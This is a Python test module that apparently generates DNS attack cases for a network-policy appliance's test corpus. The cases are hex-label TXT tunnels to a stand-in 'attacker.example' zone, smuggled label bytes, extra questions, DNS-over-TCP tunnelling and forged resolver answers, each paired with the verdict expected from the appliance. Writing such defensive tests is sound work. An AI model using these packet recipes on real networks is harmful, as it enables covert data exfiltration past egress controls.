"""DNS cases of the attacker corpus (tests/golden/test_attacks.py): a hostile workload using the
resolver the policy allows as a channel, or forging answers to be taught an address of its own.

Queries are judged on their name message by message; answers teach only when they answer a
query the appliance forwarded and arrive from the outside port (docs/POLICY.md, DNS). Markers
of tunnel queries are the hex labels as they appear on the wire: what the attacker's server
would read back. Frames from the outside come from frames.UPSTREAM_MAC (the replay runs with
--outside-mac UPSTREAM_MAC); forgeries from the inside carry the workload's own MAC.
"""

from scapy.layers.dns import DNS, DNSQR, DNSRR

from pcapgen import frames
from pcapgen.attacks import ATTACKER, CLIENT, CLIENT_MAC, RESOLVER, Attack, Control, marker

TUNNEL_ZONE = "x.attacker.example"
LEARNED = "198.19.10.77"  # what the allowed name resolves to in the control


def _hex_labels(data):
    """`data` as hex in labels of at most 62 characters, as DNS tunnels (iodine, dnscat) encode."""
    text = data.hex()
    return ".".join(text[i:i + 62] for i in range(0, len(text), 62))


def _query(sport, qname, qid, qtype="A"):
    return frames.udp_packet(CLIENT, sport, RESOLVER, 53, DNS(id=qid, rd=1, qd=DNSQR(qname=qname, qtype=qtype)))


def _forged_answer(query, address, *, src_mac=CLIENT_MAC, qid=None):
    """An answer to `query` from the resolver's address, with `address` for its name."""
    dns = query[DNS]
    answer = DNS(id=dns.id if qid is None else qid, qr=1, rd=1, ra=1, qd=dns.qd,
                 an=DNSRR(rrname=dns.qd.qname, type="A", ttl=300, rdata=address))
    return frames.udp_packet(RESOLVER, 53, CLIENT, query.sport, answer, src_mac=src_mac,
                             dst_mac=frames.host_mac(CLIENT))


def _to_attacker(sport, payload):
    """What the attacker wants taught: a datagram to its own server on a port no rule names."""
    return frames.udp_packet(CLIENT, sport, ATTACKER, 9999, payload)


def attacks():
    cases = []
    name = "dns_txt_tunnel"
    chunks = [marker(name) + b"-%d" % i for i in range(3)]
    queries = [_query(46001, f"{_hex_labels(c)}.{TUNNEL_ZONE}", 0x4600 + i, "TXT") for i, c in enumerate(chunks)]
    cases.append(Attack(name, queries, "dns_name_not_allowed", _hex_labels(marker(name)).encode(),
                        "TXT queries through the allowed resolver, data hex-encoded in labels under the "
                        "attacker's zone: each answered NXDOMAIN by the appliance"))

    name = "dns_raw_label"
    m = marker(name)
    raw = DNS(id=0x4610, rd=1, qd=DNSQR(qname=b"pypi.org", qtype="A"))
    wire = bytes(raw).replace(b"\x04pypi", bytes([len(m)]) + m + b"\x04pypi")
    cases.append(Attack(name, [frames.udp_packet(CLIENT, 46002, RESOLVER, 53, wire)], "dns_query_invalid_name", m,
                        "raw bytes in a label above an allowed name"))

    name = "dns_second_question"
    m = marker(name)
    two = DNS(id=0x4620, rd=1, qd=DNSQR(qname="pypi.org") / DNSQR(qname=m.hex() + "." + TUNNEL_ZONE))
    cases.append(Attack(name, [frames.udp_packet(CLIENT, 46003, RESOLVER, 53, two)], "dns_query_not_one_question",
                        m.hex().encode(), "an allowed first question and the data in a second"))

    name = "dns_trailing_bytes"
    m = marker(name)
    allowed = bytes(DNS(id=0x4630, rd=1, qd=DNSQR(qname="pypi.org")))
    cases.append(Attack(name, [frames.udp_packet(CLIENT, 46004, RESOLVER, 53, allowed + m)], "dns_query_malformed",
                        m, "an allowed query with data after it"))

    name = "dns_tcp_tunnel"
    m = marker(name)
    flow = frames.TcpFlow(CLIENT, 46005, RESOLVER, 53)
    message = bytes(DNS(id=0x4640, rd=1, qd=DNSQR(qname=f"{_hex_labels(m)}.{TUNNEL_ZONE}", qtype="TXT")))
    cases.append(Attack(name, [flow.syn(), flow.ack(), flow.data(len(message).to_bytes(2, "big") + message)],
                        "dns_name_not_allowed", _hex_labels(m).encode(), "the tunnel over DNS-over-TCP: reset"))

    # Forged from the inside: the workload asks for an allowed name, answers itself with its
    # server's address, then sends to that address. Taught, the datagram would pass as
    # allowed_dns_learned (pypi.org's rule allows every port).
    name = "dns_forged_answer_inside"
    m = marker(name)
    query = _query(46006, "pypi.org", 0x4650)
    cases.append(Attack(name, [query, _forged_answer(query, ATTACKER), _to_attacker(46007, m)],
                        "dns_answer_from_inside", m, "the answer matches the query in every field"))

    # Unsolicited from the outside side: an answer with another transaction id teaches nothing.
    name = "dns_unsolicited_answer"
    m = marker(name)
    query = _query(46008, "pypi.org", 0x4660)
    forged = _forged_answer(query, ATTACKER, src_mac=frames.UPSTREAM_MAC, qid=0x4661)
    cases.append(Attack(name, [query, forged, _to_attacker(46009, m)], "ip_not_allowed", m,
                        "replay: an outside answer whose id matches no forwarded query; sluiced: it "
                        "enters the inside port and is dropped as a forgery"))
    return cases


def controls():
    query = _query(46100, "pypi.org", 0x4700)
    answer = _forged_answer(query, LEARNED, src_mac=frames.UPSTREAM_MAC)
    taught = frames.udp_packet(CLIENT, 46101, LEARNED, 9999, b"to an address the allowed name resolved to")
    return [
        Control("dns_allowed_name_txt", [_query(46102, "pypi.org", 0x4702, "TXT")],
                "a TXT query for an allowed name passes"),
        Control("dns_answer_teaches", [query, answer, taught],
                "query, its answer from outside, then a datagram to the taught address (allowed_dns_learned)",
                extra={"replay_only": True}),
    ]
